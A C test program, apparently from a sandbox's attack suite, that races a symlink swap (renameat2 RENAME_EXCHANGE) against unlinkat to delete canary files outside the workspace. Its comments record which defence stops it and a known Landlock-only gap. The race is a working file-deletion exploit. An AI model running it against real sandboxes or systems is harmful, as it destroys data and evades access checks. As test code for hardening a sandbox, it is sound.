// attack: race: a thread swaps a workspace symlink (ws/l -> decoy dir / -> canary dir) while unlinking l/NAME
// stopped by: sign-off(delete)
// known gap: landlock: nothing is pinned in the Landlock-only backend, so a path swapped after the notifier read it reaches the file (README, Not done yet)
// The supervisor resolves l/NAME once; the kernel walks l again afterwards. RENAME_EXCHANGE flips the
// two links atomically, so at any instant l points at one directory or the other.
#define _GNU_SOURCE
#include "attack.h"
#include <pthread.h>
#include <stdatomic.h>

static atomic_int stop;
static void *flipper(void *arg) {
    (void)arg;
    while (!atomic_load(&stop)) syscall(SYS_renameat2, AT_FDCWD, "race-l", AT_FDCWD, "race-l2", RENAME_EXCHANGE);
    return NULL;
}

int main(void) {
    const char *canary = getenv("CANARY");
    if (!canary) { fprintf(stderr, "CANARY not set\n"); return 2; }
    mkdir("race-decoy", 0755);
    unlink("race-l"); unlink("race-l2");
    printf("symlink race-l -> race-decoy: %d\n", symlink("race-decoy", "race-l"));
    printf("symlink race-l2 -> %s: %d\n", canary, symlink(canary, "race-l2"));
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    char files[4][256], names[4][300], cpath[4][4096];
    if (canary_files(canary, files, 4) < 4) { fprintf(stderr, "fewer than 4 canary files\n"); return 2; }
    for (int i = 0; i < 4; i++) {
        snprintf(names[i], sizeof names[i], "race-l/%s", files[i]);
        snprintf(cpath[i], sizeof cpath[i], "%s/%s", canary, files[i]);
    }
    long tries = 0, ok = 0, counts[256] = {0};
    double deadline = now() + 4.0;
    while (now() < deadline) {
        int gone = 0; struct stat st;
        for (int i = 0; i < 4; i++) gone += lstat(cpath[i], &st) < 0;
        if (gone == 4) break;
        int i = (int)(tries % 4);
        char decoy[300]; snprintf(decoy, sizeof decoy, "race-decoy/%s", files[i]);
        close(open(decoy, O_WRONLY | O_CREAT, 0644));
        long rc = syscall(SYS_unlinkat, AT_FDCWD, names[i], 0);
        tries++;
        if (rc == 0) ok++; else counts[errno & 255]++;
    }
    atomic_store(&stop, 1);
    pthread_join(t, NULL);
    printf("unlink via a flipping symlink: %ld tries, %ld succeeded\n", tries, ok);
    for (int e = 0; e < 256; e++) if (counts[e]) printf("  errno %d (%s): %ld\n", e, strerror(e), counts[e]);
    for (int i = 0; i < 4; i++) { struct stat st; printf("%s: %s\n", cpath[i], lstat(cpath[i], &st) == 0 ? "still there" : "GONE"); }
    return 0;
}
